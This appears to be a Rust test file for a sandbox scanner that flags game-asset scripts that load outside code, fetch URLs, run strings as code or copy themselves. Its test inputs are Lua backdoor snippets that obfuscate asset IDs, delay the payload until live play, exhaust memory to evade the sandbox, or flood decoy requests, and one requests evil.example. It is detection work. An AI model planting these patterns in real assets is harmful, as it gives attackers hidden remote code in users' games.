//! Tests of what is seen when the scripts of a model run.

use vector_place::Node;

use super::*;

/// A model with scripts, as a file that is read again.
fn model(scripts: &[Script<'_>]) -> AssetModel {
    let mut scene = Scene::empty(FileFormat::Xml);
    let root = scene.root();
    let model = scene.create(root, "Model", "Kit");
    for script in scripts {
        let node: Node = scene.create(model, script.class, script.name);
        scene.set_source(node, script.text.to_owned());
    }
    AssetModel::read(&scene.encode().unwrap()).unwrap()
}

struct Script<'a> {
    class: &'a str,
    name: &'a str,
    text: &'a str,
}

fn watch(scripts: &[Script<'_>]) -> Vec<String> {
    let never: Rc<dyn Fn() -> bool> = Rc::new(|| false);
    let limits = WatchLimits { real: Duration::from_secs(20), ..WatchLimits::default() };
    let found = watch_model(&model(scripts), limits, &never).unwrap();
    found.iter().map(|it| format!("{}: {it}", it.at)).collect()
}

fn watch_text(text: &str) -> Vec<String> {
    watch(&[Script { class: "Script", name: "Main", text }])
}

#[test]
fn decoded_number_is_named_at_the_call() {
    let asset = |line: u32| {
        format!("1: When run, line {line} requires the asset 7712345678, code from outside.")
    };
    let decode = "local text = ''\nfor c in ('8876543217'):reverse():gmatch('.') do text ..= c end\n\
                  local id = tonumber(text) - 12345678 * 0 - (1234567888 - 7712345678 + 0)\n";
    assert_eq!(
        watch_text(&format!("{decode}require(7712345678 + 0 * id)")),
        [asset(4)],
        "a plain call"
    );
    for text in [
        "pcall(require, 7712345678)",
        "task.delay(86400 * 3, function() require(7712345678) end)",
        "if not game:GetService('RunService'):IsStudio() then require(7712345678) end",
        "if os.time() > 1800000000 then require(7712345678) end",
        "game.Players.PlayerAdded:Connect(function() require(7712345678) end)",
        "game.Players.PlayerAdded:Wait() require(7712345678)",
        "if game.JobId ~= '' and game.PlaceId ~= 0 then require(7712345678) end",
        "game:BindToClose(function() require(7712345678) end)",
        "game:GetService('GroupService'):GetAlliesAsync(1) require(7712345678)",
        "local n = 0 while task.wait(1) do n += 1 if n == 50 then require(7712345678) end end",
    ] {
        let found = watch_text(text);
        assert!(found.contains(&asset(1)), "{text}: {found:?}");
    }
}

#[test]
fn texts_that_are_run_are_followed() {
    let found = watch_text("loadstring('\\nrequire(' .. 77 .. ')')()");
    assert_eq!(
        found,
        [
            "1: When run, line 1 runs a text as code: \\nrequire(77)",
            "1: When run, line 2 of a text that it runs requires the asset 77, code from outside.",
        ]
    );
    let found = watch_text(
        "local s = game:GetService('Http' .. 'Service')\nlocal t = s:GetAsync('https://evil.example')\n\
         game:GetService('InsertService'):LoadAsset(5).Parent = workspace",
    );
    assert_eq!(
        found,
        [
            "1: When run, line 2 sends a request to https://evil.example",
            "1: When run, line 3 loads the asset 5 (LoadAsset).",
        ]
    );
}

#[test]
fn scripts_that_do_not_end_hide_no_others() {
    let payload = Script { class: "Script", name: "B", text: "require(7)" };
    for text in
        ["while true do end", "local t = {} while true do table.insert(t, ('x'):rep(1e6)) end"]
    {
        let first = Script { class: "Script", name: "A", text };
        let last = Script { ..payload };
        let found = watch(&[first, last]);
        let unseen = "1: When run, it does more than the sandbox allows, so what it does then is not \
                      known.";
        let payload = "2: When run, line 1 requires the asset 7, code from outside.";
        assert_eq!(found, [unseen, payload], "{text}");
    }
}

const UNSEEN: &str = "does more than the sandbox allows, so what it does then is not known.";

/// Fills the memory and keeps it.
const HOARD: &str = "_G.held = {} \
                     pcall(function() while true do table.insert(_G.held, table.create(1e4, 1)) end end) \
                     pcall(function() while true do _G.held = { _G.held } end end)";

#[test]
fn every_script_that_does_not_run_whole_is_named() {
    // The first script leaves no memory for those that run with it.
    let mut scripts = vec![Script { class: "Script", name: "Hoard", text: HOARD }];
    scripts.extend((0..7).map(|_| Script { class: "Script", name: "Dummy", text: "" }));
    let payload = "pcall(function() local text = ('x'):rep(5e6) require(#text) end)";
    scripts.push(Script { class: "Script", name: "Payload", text: payload });
    let payload = "9: When run, line 1 requires the asset 5000000, code from outside.";
    assert_eq!(watch(&scripts), [&format!("1: When run, it {UNSEEN}"), payload]);
    // Any of them may be the one that is kept.
    let never: Rc<dyn Fn() -> bool> = Rc::new(|| false);
    let limits = WatchLimits { real: Duration::ZERO, ..WatchLimits::default() };
    let found = watch_model(&model(&scripts), limits, &never).unwrap();
    let over =
        "The time to run the scripts of the asset was over, so what it reaches is not fully known.";
    let named = found.iter().filter(|it| it.to_string() == over).map(|it| it.at);
    assert_eq!(named.collect::<Vec<u32>>(), (1..=9).collect::<Vec<u32>>());
}

#[test]
fn memory_that_is_freed_within_a_step_is_noticed() {
    let unseen = format!("1: When run, it {UNSEEN}");
    // Each of them has much memory for a moment only, or asks for more than there is.
    for text in [
        "local t = table.create(7e6, 1) print(#t) t = nil",
        "pcall(table.create, 5e7, 1)",
        "xpcall(table.create, function() return 'hidden' end, 5e7, 1)",
        "local run = coroutine.create(function() return ('x'):rep(5e8) end) coroutine.resume(run)",
        "if pcall(string.rep, 'x', 2e8) then require(7) end",
    ] {
        assert!(watch_text(text).contains(&unseen), "{text}: {:?}", watch_text(text));
    }
    // A script that has little of it left is looked at alone.
    let hoard = "_G.t = table.create(5e6, 1) task.defer(function() _G.t = nil end)";
    let payload = "pcall(function() local text = ('x'):rep(6e7) require(#text) end)";
    let found = watch(&[
        Script { class: "Script", name: "Hoard", text: hoard },
        Script { class: "Script", name: "Payload", text: payload },
    ]);
    let payload = "2: When run, line 1 requires the asset 60000000, code from outside.";
    assert!(found.iter().any(|it| it == payload), "{found:?}");
    let harmless = "for n = 1, 2e3 do local t = table.create(1e3, n) pcall(error, #t) end";
    assert_eq!(watch_text(harmless), [""; 0]);
}

#[test]
fn scripts_that_only_fail_together_are_named() {
    let hoard = format!("task.wait() if workspace:GetAttribute('On') then {HOARD} end");
    let set = Script { class: "Script", name: "A", text: "workspace:SetAttribute('On', true)" };
    let hoard = Script { class: "Script", name: "B", text: &hoard };
    let unseen = |at: u32| format!("{at}: When run, it {UNSEEN}");
    assert_eq!(watch(&[set, hoard]), [unseen(1), unseen(2)]);
}

#[test]
fn many_accesses_hide_no_others() {
    let decoy = "local http = game:GetService('HttpService') \
                 for n = 1, 300 do http:GetAsync('https://a.example/' .. n) end";
    let main = format!("{decoy} require(8)");
    let decoy = Script { class: "Script", name: "Decoy", text: decoy };
    let main = Script { class: "Script", name: "Main", text: &main };
    let found = watch(&[decoy, main, Script { class: "Script", name: "B", text: "require(7)" }]);
    for script in [1, 2] {
        let unseen = format!("{script}: When run, it {UNSEEN}");
        assert!(found.contains(&unseen), "{script}: {found:?}");
    }
    for rest in
        ["2: When run, line 1 requires the asset 8", "3: When run, line 1 requires the asset 7"]
    {
        let rest = format!("{rest}, code from outside.");
        assert!(found.contains(&rest), "{rest} {found:?}");
    }
    assert!(found.len() < 70, "{}", found.len());
}

#[test]
fn ordinary_scripts_reach_nothing() {
    for text in [
        "local m = require(script.Parent.Module) m.start()",
        "game.Players.PlayerAdded:Connect(function(p) Instance.new('Folder', p) end)",
        "script.Parent:GetAttributeChangedSignal('X'):Connect(print)",
        "game:GetService('TeleportService'):TeleportAsync(game.PlaceId, {})",
        "print(game:GetService('HttpService'):JSONEncode({ 1 }))",
    ] {
        let module =
            Script { class: "ModuleScript", name: "Module", text: "return { start = print }" };
        let main = Script { class: "Script", name: "Main", text };
        assert_eq!(watch(&[module, main]), [""; 0], "{text}");
    }
}

#[test]
fn values_of_the_model_are_there() {
    let mut scene = Scene::empty(FileFormat::Binary);
    let root = scene.root();
    let kit = scene.create(root, "Model", "Kit");
    let code = scene_schemas::Value::String("8765432177".to_owned());
    scene.set_property(kit, "@Code", Some(&code)).unwrap();
    let script = scene.create(kit, "Script", "Main");
    let text = "require(tonumber(script.Parent:GetAttribute('Code'):reverse()))";
    scene.set_source(script, text.to_owned());
    let model = AssetModel::read(&scene.encode().unwrap()).unwrap();
    let never: Rc<dyn Fn() -> bool> = Rc::new(|| false);
    let found = watch_model(&model, WatchLimits::default(), &never).unwrap();
    assert!(found.len() == 1 && found[0].value == "7712345678", "{found:?}");
}

#[test]
fn copies_of_a_script_itself_are_named() {
    let found = watch_text("script:Clone().Parent = game:GetService('ServerScriptService')");
    assert_eq!(found, ["1: When run, it puts a copy of itself into ServerScriptService."]);
    let other = "local s = script.Parent.Other:Clone() s.Parent = workspace";
    let main = Script { class: "Script", name: "Main", text: other };
    let copied = Script { class: "Script", name: "Other", text: "print(1)" };
    assert_eq!(watch(&[main, copied]), [""; 0]);
}
